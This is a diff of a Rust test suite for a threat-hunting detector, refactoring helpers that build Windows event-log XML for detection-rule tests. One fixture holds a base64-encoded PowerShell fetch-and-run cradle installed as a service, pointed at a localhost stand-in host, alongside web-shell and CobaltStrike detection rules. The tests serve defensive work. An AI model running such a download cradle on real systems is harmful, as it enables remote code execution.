@@ -7,7 +7,7 @@
 
 mod common;
 
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 use faultline_analyzer::Scope;
 use faultline_analyzer::hunting::{Hunt, HuntReport, hunt};
@@ -30,12 +30,38 @@ fn bundled() -> LoadReport {
     r
 }
 
+/// Three hours of a generated scenario on one host, written under `dir`.
+fn three_hours_of(name: &str, dir: &Path) -> PathBuf {
+    let size = faultline_corpus::scenario::Size { hosts: 1, hours: 3, rate: 0.3 };
+    let evidence = dir.join("evidence");
+    faultline_corpus::scenario::generate(name, &evidence, 5, &size).expect("generates");
+    evidence
+}
+
 /// The bundled pack's hunt of three hours of a generated scenario.
 fn hunt_scenario(name: &str) -> HuntReport {
     let dir = tempfile::tempdir().expect("tempdir");
-    let size = faultline_corpus::scenario::Size { hosts: 1, hours: 3, rate: 0.3 };
-    faultline_corpus::scenario::generate(name, dir.path(), 5, &size).expect("generates");
-    run(&[dir.path().to_path_buf()], bundled())
+    run(&[three_hours_of(name, dir.path())], bundled())
+}
+
+/// One event of an event-log export, numbered `record` and timed
+/// `record` minutes past 10:00, on WEB01.
+fn event_xml(record: u32, provider: &str, id: u16, channel: &str, data: &[(&str, &str)]) -> String {
+    let data: String =
+        data.iter().map(|(name, value)| format!("<Data Name=\"{name}\">{value}</Data>")).collect();
+    format!(
+        "<Event><System><Provider Name=\"{provider}\"/><EventID>{id}</EventID>\
+         <TimeCreated SystemTime=\"2025-11-24T10:{record:02}:00Z\"/><EventRecordID>{record}</EventRecordID>\
+         <Channel>{channel}</Channel><Computer>WEB01</Computer></System><EventData>{data}</EventData></Event>"
+    )
+}
+
+/// A hunt of `events`, exported into one file named `name`.
+fn hunt_events(name: &str, events: &[String], rules: LoadReport) -> HuntReport {
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let file = tmp.path().join(name);
+    std::fs::write(&file, format!("<Events>{}</Events>", events.concat())).expect("writes");
+    run(&[file], rules)
 }
 
 /// (rule title, host) of each detection, distinct, in order.
@@ -271,9 +297,7 @@ fn each_real_scanner_is_one_episode() {
 #[test]
 fn a_correlation_over_silent_process_events_names_their_app_pool() {
     let dir = tempfile::tempdir().expect("tempdir");
-    let size = faultline_corpus::scenario::Size { hosts: 1, hours: 3, rate: 0.3 };
-    let evidence = dir.path().join("evidence");
-    faultline_corpus::scenario::generate("web-shell", &evidence, 5, &size).expect("generates");
+    let evidence = three_hours_of("web-shell", dir.path());
     let rules = "title: Worker Child\nname: t_child\nlogsource:\n    category: process_creation\n    \
                  product: windows\ndetection:\n    selection:\n        ParentImage|endswith: '\\w3wp.exe'\n    \
                  condition: selection\nlevel: low\n---\ntitle: Worker Children\ncorrelation:\n    \
@@ -302,37 +326,35 @@ fn a_base64offset_rule_finds_the_encoded_cradle_and_not_its_look_alike() {
         "rules/windows/builtin/system/service_control_manager/win_system_cobaltstrike_service_installs.yml",
     );
     let service = |record: u32, name: &str, encoded: &str| {
-        format!(
-            "<Event><System><Provider Name=\"Service Control Manager\"/><EventID>7045</EventID>\
-             <TimeCreated SystemTime=\"2025-11-24T10:0{record}:00Z\"/><EventRecordID>{record}</EventRecordID>\
-             <Channel>System</Channel><Computer>WEB01</Computer></System><EventData>\
-             <Data Name=\"ServiceName\">{name}</Data><Data Name=\"ImagePath\">powershell -c \
-             iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{encoded}')))</Data>\
-             </EventData></Event>"
+        let command = format!(
+            "powershell -c iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{encoded}')))"
+        );
+        event_xml(
+            record,
+            "Service Control Manager",
+            7045,
+            "System",
+            &[("ServiceName", name), ("ImagePath", &command)],
         )
     };
-    let events = format!(
-        "<Events>{}{}</Events>",
+    let events = [
         // `$u=1;IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:31337/')`
         service(
             1,
             "updater",
-            "JHU9MTtJRVggKE5ldy1PYmplY3QgTmV0LldlYmNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMjcuMC4wLjE6MzEzMzcvJyk="
+            "JHU9MTtJRVggKE5ldy1PYmplY3QgTmV0LldlYmNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMjcuMC4wLjE6MzEzMzcvJyk=",
         ),
         // `$u=1;Write-Output (Get-Date).ToString('http://127.0.0.1:31337/')`
         service(
             2,
             "clock",
-            "JHU9MTtXcml0ZS1PdXRwdXQgKEdldC1EYXRlKS5Ub1N0cmluZygnaHR0cDovLzEyNy4wLjAuMTozMTMzNy8nKQ=="
+            "JHU9MTtXcml0ZS1PdXRwdXQgKEdldC1EYXRlKS5Ub1N0cmluZygnaHR0cDovLzEyNy4wLjAuMTozMTMzNy8nKQ==",
         ),
-    );
-    let tmp = tempfile::tempdir().expect("tempdir");
-    let file = tmp.path().join("System.xml");
-    std::fs::write(&file, events).expect("writes");
+    ];
     let mut rules = LoadReport::default();
     rules.add_path(&rule, false).expect("reads");
     assert!(rules.skipped.is_empty(), "{:?}", rules.skipped);
-    let report = run(&[file], rules);
+    let report = hunt_events("System.xml", &events, rules);
     let found: Vec<(&str, Option<u64>)> =
         report.detections.iter().map(|d| (d.rule.meta.title.as_str(), d.evidence.record)).collect();
     assert_eq!(found, [("CobaltStrike Service Installations - System", Some(1))]);
@@ -343,25 +365,16 @@ fn a_base64offset_rule_finds_the_encoded_cradle_and_not_its_look_alike() {
 #[test]
 fn a_field_reference_compares_two_values_of_one_event() {
     let process = |record: u32, image: &str, parent: &str| {
-        format!(
-            "<Event><System><Provider Name=\"Microsoft-Windows-Sysmon\"/><EventID>1</EventID>\
-             <TimeCreated SystemTime=\"2025-11-24T10:0{record}:00Z\"/><EventRecordID>{record}</EventRecordID>\
-             <Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WEB01</Computer></System>\
-             <EventData><Data Name=\"Image\">{image}</Data><Data Name=\"ParentImage\">{parent}</Data>\
-             <Data Name=\"CommandLine\">x</Data></EventData></Event>"
-        )
+        let data = [("Image", image), ("ParentImage", parent), ("CommandLine", "x")];
+        event_xml(record, "Microsoft-Windows-Sysmon", 1, "Microsoft-Windows-Sysmon/Operational", &data)
     };
     let cmd = "C:\\Windows\\System32\\cmd.exe";
     // The third: both unset, which is no equality.
-    let events = format!(
-        "<Events>{}{}{}</Events>",
+    let events = [
         process(1, cmd, &cmd.to_ascii_lowercase()),
         process(2, cmd, "C:\\Windows\\explorer.exe"),
         process(3, "-", "-"),
-    );
-    let tmp = tempfile::tempdir().expect("tempdir");
-    let file = tmp.path().join("Sysmon.xml");
-    std::fs::write(&file, events).expect("writes");
+    ];
     let found = |modifiers: &str| {
         let rule = format!(
             "title: Itself\nlogsource:\n    category: process_creation\n    product: windows\n\
@@ -369,9 +382,9 @@ fn a_field_reference_compares_two_values_of_one_event() {
              condition: selection\nlevel: low\n"
         );
         let mut rules = LoadReport::default();
-        rules.add_text(&rule, std::path::Path::new("itself.yml"));
+        rules.add_text(&rule, Path::new("itself.yml"));
         assert!(rules.skipped.is_empty(), "{:?}", rules.skipped);
-        let report = run(std::slice::from_ref(&file), rules);
+        let report = hunt_events("Sysmon.xml", &events, rules);
         report.detections.iter().map(|d| d.evidence.record).collect::<Vec<_>>()
     };
     assert_eq!(found(""), [Some(1)]);
@@ -443,7 +456,7 @@ fn rules_of_sysmon_categories_fire_on_the_real_captures() {
     ]
     .join("---\n");
     let mut loaded = LoadReport::default();
-    loaded.add_text(&rules, std::path::Path::new("sysmon.yml"));
+    loaded.add_text(&rules, Path::new("sysmon.yml"));
     assert!(loaded.skipped.is_empty(), "{:?}", loaded.skipped);
     let report = run(&[attacks], loaded);
     let mut got: Vec<(String, String, u64)> = report
@@ -483,9 +496,7 @@ fn rules_of_sysmon_categories_fire_on_the_real_captures() {
 #[test]
 fn hostile_rule_files_are_skipped_with_reasons_and_the_hunt_goes_on() {
     let dir = tempfile::tempdir().expect("tempdir");
-    let size = faultline_corpus::scenario::Size { hosts: 1, hours: 3, rate: 0.3 };
-    let evidence = dir.path().join("evidence");
-    faultline_corpus::scenario::generate("web-shell", &evidence, 5, &size).expect("generates");
+    let evidence = three_hours_of("web-shell", dir.path());
     let rules = dir.path().join("rules");
     std::fs::create_dir_all(&rules).expect("mkdir");
     let rule = |condition: &str| {
